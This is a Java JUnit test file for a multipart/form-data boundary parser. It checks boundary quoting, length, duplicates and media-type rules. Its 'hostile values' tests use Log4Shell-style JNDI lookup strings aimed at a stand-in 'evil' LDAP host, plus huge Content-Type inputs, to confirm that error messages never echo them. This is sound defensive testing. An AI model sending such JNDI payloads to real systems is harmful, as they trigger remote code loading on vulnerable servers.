package dev.sluice;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sluice.MultipartException.Kind;
import dev.sluice.MultipartException.Reason;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Rows 1 to 7 of the table of odd inputs: what a Content-Type may say. */
class BoundaryTest {
    private static final String TYPE = "multipart/form-data; ";

    private static Boundary read(String contentType, Preset preset) {
        try {
            return Boundary.from(contentType, preset);
        } catch (MultipartException e) {
            throw new AssertionError(preset + " refuses " + contentType, e);
        }
    }

    private static void assertAcceptedByAll(String contentType, String value) {
        for (Preset preset : Verdict.ALL) {
            Boundary boundary = read(contentType, preset);
            assertEquals(value, boundary.value(), contentType);
            assertEquals(List.of(), boundary.deviations(), preset + " " + contentType);
        }
    }

    private static void assertRefused(Preset preset, String contentType, Reason reason) {
        MultipartException e = assertThrows(
                MultipartException.class, () -> Boundary.from(contentType, preset), preset + " " + contentType);
        assertEquals(reason, e.reason(), preset + " " + contentType + ": " + e.getMessage());
        assertEquals(-1, e.offset(), "no byte of the body is at fault");
        assertEquals(-1, e.partIndex());
    }

    private static void assertRefusedByAll(String contentType, Reason reason) {
        Verdict.ALL.forEach(preset -> assertRefused(preset, contentType, reason));
    }

    // ---- row 1

    @Test
    void aTokenOfRfc2046CharactersNeedsNoQuotes() {
        assertAcceptedByAll(TYPE + "boundary=x", "x");
        assertAcceptedByAll(TYPE + "boundary=----WebKitFormBoundaryAbC09z", "----WebKitFormBoundaryAbC09z");
        assertAcceptedByAll(TYPE + "boundary=a'b+c_d-e.f", "a'b+c_d-e.f");
        assertAcceptedByAll(TYPE + "boundary='x'", "'x'");
    }

    @Test
    void everyRfc2046CharacterMayStandInQuotes() {
        assertAcceptedByAll(TYPE + "boundary=\"x\"", "x");
        assertAcceptedByAll(TYPE + "boundary=\"09azAZ'()+_,-./:=? x\"", "09azAZ'()+_,-./:=? x");
        assertAcceptedByAll(TYPE + "boundary=\" x\"", " x");
        assertAcceptedByAll(TYPE + "boundary=\"a:b\"; charset=utf-8", "a:b");
    }

    @Test
    void seventyCharactersPassAndSeventyOneDoNot() {
        assertAcceptedByAll(TYPE + "boundary=" + "b".repeat(70), "b".repeat(70));
        assertAcceptedByAll(TYPE + "boundary=\"" + "b".repeat(70) + "\"", "b".repeat(70));
        assertRefused(Preset.STANDARD, TYPE + "boundary=" + "b".repeat(71), Reason.INVALID_BOUNDARY);
        assertRefused(Preset.STRICT, TYPE + "boundary=" + "b".repeat(71), Reason.INVALID_BOUNDARY);
    }

    @Test
    void compatibleTakesUpTo256Characters() {
        for (int length : new int[] {71, 255, 256}) {
            Boundary boundary = read(TYPE + "boundary=" + "b".repeat(length), Preset.COMPATIBLE);
            assertEquals("b".repeat(length), boundary.value());
            assertEquals(List.of(), boundary.deviations());
        }
        assertRefused(Preset.COMPATIBLE, TYPE + "boundary=" + "b".repeat(257), Reason.INVALID_BOUNDARY);
    }

    @Test
    void anByteIsShownAsItselfWhereThatCanBeSeen() {
        assertEquals("'!'", Bytes.show((byte) '!'));
        assertEquals("'~'", Bytes.show((byte) '~'));
        assertEquals("0x20", Bytes.show((byte) ' '));
        assertEquals("0x7F", Bytes.show((byte) 0x7F));
        assertEquals("0xE9", Bytes.show((byte) 0xE9));
        assertEquals("0x00", Bytes.show((byte) 0));
    }

    @Test
    void aBoundaryCanBeOddInTwoWays() {
        Preset preset = Preset.COMPATIBLE.reporting(Deviation.BOUNDARY_CHARACTERS, Deviation.LONG_BOUNDARY);
        assertEquals(
                List.of(
                        new ReportedDeviation(Deviation.BOUNDARY_CHARACTERS, -1, -1),
                        new ReportedDeviation(Deviation.LONG_BOUNDARY, -1, -1)),
                read(TYPE + "boundary=" + "*".repeat(71), preset).deviations());
        assertEquals(
                List.of(), read(TYPE + "boundary=" + "b".repeat(70), preset).deviations());
        assertEquals(
                List.of(new ReportedDeviation(Deviation.BOUNDARY_CHARACTERS, -1, -1)),
                read(TYPE + "boundary=" + "*".repeat(71), preset.accepting(Deviation.LONG_BOUNDARY))
                        .deviations());
    }

    @Test
    void everyLengthUpTo5000HasItsVerdictAtOnce() {
        for (int length = 0; length <= 5000; length++) {
            String contentType = TYPE + "boundary=" + "b".repeat(length);
            if (length >= 1 && length <= 70) {
                assertEquals(length, read(contentType, Preset.STANDARD).value().length());
            } else {
                assertRefused(Preset.STANDARD, contentType, Reason.INVALID_BOUNDARY);
            }
        }
    }

    // ---- row 2

    @ParameterizedTest
    @ValueSource(strings = {"*****", "a=b", "\\/\\/x", "a/b", "a:b", "a(b)", "a?b", "<x>", "{x}", "~!@#$%^&|"})
    void otherVisibleCharactersWithoutQuotesAreReportedByStandardAndRefusedByStrict(String value) {
        String contentType = TYPE + "boundary=" + value;
        Boundary standard = read(contentType, Preset.STANDARD);
        assertEquals(value, standard.value());
        assertEquals(
                List.of(new ReportedDeviation(Deviation.BOUNDARY_CHARACTERS, -1, -1)), standard.deviations(), value);
        assertRefused(Preset.STRICT, contentType, Reason.INVALID_BOUNDARY);
        Boundary compatible = read(contentType, Preset.COMPATIBLE);
        assertEquals(value, compatible.value());
        assertEquals(List.of(), compatible.deviations());
    }

    @Test
    void aReportedBoundaryIsTheFirstDeviationOfTheDecoder() {
        try (MultipartDecoder decoder = MultipartDecoder.create(read(TYPE + "boundary=*****", Preset.STANDARD))) {
            assertEquals(List.of(new ReportedDeviation(Deviation.BOUNDARY_CHARACTERS, -1, -1)), decoder.deviations());
            assertEquals(1, decoder.deviationCount());
        }
    }

    // ---- row 3

    @ParameterizedTest
    @ValueSource(
            strings = {
                "multipart/form-data",
                "multipart/form-data;",
                "multipart/form-data; ",
                "multipart/form-data; charset=utf-8",
                "multipart/form-data; boundary*0=re; boundary*1=al",
                "multipart/form-data; boundary*0=x",
                "multipart/form-data; boundary*=utf-8''x",
                "multipart/form-data; x-boundary=x",
                "multipart/form-data; charset=\"; boundary=x\"",
                "multipart/form-data boundary=x",
                "multipart/form-data, boundary=x"
            })
    void withoutABoundaryParameterThereIsNoBoundary(String contentType) {
        assertRefusedByAll(contentType, Reason.MISSING_BOUNDARY);
    }

    // ---- row 4

    @ParameterizedTest
    @ValueSource(
            strings = {
                "boundary",
                "boundary;",
                "foo=; boundary=x",
                "=y; boundary=x",
                "\"boundary\"=x",
                "charset=\"utf-8; boundary=x",
                "charset = utf-8; boundary=x",
                "boundary=",
                "boundary=;charset=utf-8",
                "boundary=\"\"",
                "boundary=\"x ",
                "boundary=\"x \"",
                "boundary=\" \"",
                "boundary=\"x",
                "boundary=\"",
                "boundary=x\"",
                "boundary=\"x\"y",
                "boundary=\"0\"0\"",
                "boundary=x\"y\"",
                "boundary=\"a\\\"b\"",
                "boundary=\"a\\b\"",
                "boundary=\"x\\",
                "boundary = x",
                "boundary =x",
                "boundary= x",
                "boundary=\tx",
                "boundary=a b",
                "boundary=a\tb",
                "boundary=a,b",
                "boundary=x,",
                "boundary=a\u0000b",
                "boundary=a\u0001b",
                "boundary=a\u007fb",
                "boundary=\"a\tb\"",
                "boundary=\"a\r\nb\"",
                "boundary=a\r\nb",
                "boundary=x\r\n",
                "a=\"\u0001\"; boundary=x",
                "boundary=x; a=\"\\\u007f\"",
                "boundary=a\u00e9b",
                "boundary=\"a\u00e9b\"",
                "boundary=\u4e2d"
            })
    void aBoundaryThatTwoReadersCouldReadDifferentlyIsRefused(String parameter) {
        assertRefusedByAll(TYPE + parameter, Reason.INVALID_BOUNDARY);
    }

    // ---- row 5

    @ParameterizedTest
    @ValueSource(
            strings = {
                "boundary=x; boundary=y",
                "boundary=x; boundary=x",
                "boundary=x; BOUNDARY=x",
                "boundary=x;boundary=\"x\"",
                "boundary=\"x\"; charset=utf-8; Boundary=y",
                "boundary=x; boundary="
            })
    void twoBoundaryParametersAreRefusedEvenIfEqual(String parameters) {
        assertRefusedByAll(TYPE + parameters, Reason.DUPLICATE_BOUNDARY);
    }

    @Test
    void aQuotedSecondBoundaryIsNoSecondBoundary() {
        assertAcceptedByAll(TYPE + "title=\"; boundary=y\"; boundary=x", "x");
        assertAcceptedByAll(TYPE + "boundary=x; title=\"\\\"; boundary=y\"", "x");
    }

    // ---- row 6

    @Test
    void namesMayBeOfAnyCaseAndOtherParametersMayStandAround() {
        assertAcceptedByAll("Multipart/Form-Data; BOUNDARY=x", "x");
        assertAcceptedByAll("MULTIPART/FORM-DATA;Boundary=X", "X");
        assertAcceptedByAll(TYPE + "charset=utf-8; boundary=x; type=\"text/html\"", "x");
        assertAcceptedByAll(TYPE + "boundary=x;", "x");
        assertAcceptedByAll(TYPE + "boundary=x; ", "x");
        assertAcceptedByAll(TYPE + ";; boundary=x ;; ", "x");
        assertAcceptedByAll(TYPE + "foo; boundary=x; bar", "x");
        assertAcceptedByAll(" multipart/form-data ; \t boundary=x ", "x");
        assertAcceptedByAll("multipart/form-data;boundary=x", "x");
    }

    @Test
    void theMediaTypeIsGivenInLowerCase() throws MultipartException {
        assertEquals(
                "multipart/form-data",
                Boundary.from("Multipart/Form-Data; boundary=x").mediaType());
        assertTrue(Boundary.from("MULTIPART/form-data; boundary=x").isFormData());
        Boundary mixed = Boundary.from("multipart/Mixed; boundary=x");
        assertEquals("multipart/mixed", mixed.mediaType());
        assertFalse(mixed.isFormData());
    }

    // ---- row 7

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "text/plain",
                "text/plain; boundary=x",
                "application/x-www-form-urlencoded",
                "multipart",
                "multipart; boundary=x",
                "multipart/; boundary=x",
                "multipart/ form-data; boundary=x",
                "multipart /form-data; boundary=x",
                "multipart/*; boundary=x",
                "*/*; boundary=x",
                "xmultipart/form-data; boundary=x",
                "multipartx/form-data; boundary=x",
                "; boundary=x",
                "\u0000multipart/form-data; boundary=x"
            })
    void anythingButMultipartIsAnUnsupportedMediaType(String contentType) {
        assertRefusedByAll(contentType, Reason.UNSUPPORTED_MEDIA_TYPE);
    }

    @Test
    void aRequestWithoutContentTypeIsAnUnsupportedMediaType() {
        MultipartException e = assertThrows(MultipartException.class, () -> Boundary.from(null, Preset.STANDARD));
        assertEquals(Reason.UNSUPPORTED_MEDIA_TYPE, e.reason());
        assertEquals(415, e.httpStatus());
        assertThrows(MultipartException.class, () -> Boundary.from(null));
    }

    @Test
    void aBadBoundaryIsABadRequest() {
        for (String contentType : List.of(TYPE, TYPE + "boundary=a b", TYPE + "boundary=x; boundary=y")) {
            MultipartException e = assertThrows(MultipartException.class, () -> Boundary.from(contentType));
            assertEquals(400, e.httpStatus());
            assertEquals(Kind.MALFORMED, e.kind());
        }
    }

    // ---- the factory for a boundary that is known

    @Test
    void aKnownBoundaryIsOfFormData() {
        Boundary boundary = Boundary.of("a b");
        assertEquals("a b", boundary.value());
        assertEquals("a b", boundary.toString());
        assertEquals("multipart/form-data", boundary.mediaType());
        assertTrue(boundary.isFormData());
        assertEquals(List.of(), boundary.deviations());
    }

    @Test
    void aKnownBoundaryThatBreaksRfc2046IsTheCallersFault() {
        for (String value : List.of("", " ", "x ", "*", "a\"b", "a;b", "a\\b", "a\r\nb", "\u00e9", "b".repeat(71))) {
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> Boundary.of(value), value);
            assertTrue(e.getMessage().contains("1 to 70"), e.getMessage());
        }
    }

    // ---- hostile values

    @Test
    @Timeout(30)
    void aHugeContentTypeIsReadInOneGo() {
        String many = TYPE + ";a=b".repeat(1 << 20);
        assertRefusedByAll(many, Reason.MISSING_BOUNDARY);
        assertRefusedByAll(TYPE + "a=\"" + "\\\"".repeat(1 << 20), Reason.INVALID_BOUNDARY);
        assertRefusedByAll(TYPE + "boundary=x" + " boundary".repeat(1 << 18), Reason.INVALID_BOUNDARY);
    }

    @Test
    void messagesNeverQuoteTheContentType() {
        for (String contentType : List.of(
                "${jndi:ldap://evil}",
                TYPE + "boundary=\"${jndi:ldap://evil}\\\"\"",
                TYPE + "boundary=${jndi:ldap://evil}\u0000",
                TYPE + "boundary=x ${jndi:ldap://evil}",
                TYPE + "boundary=x; boundary=${jndi:ldap://evil}")) {
            MultipartException e = assertThrows(MultipartException.class, () -> Boundary.from(contentType));
            assertFalse(e.getMessage().contains("jndi"), e.getMessage());
        }
    }
}
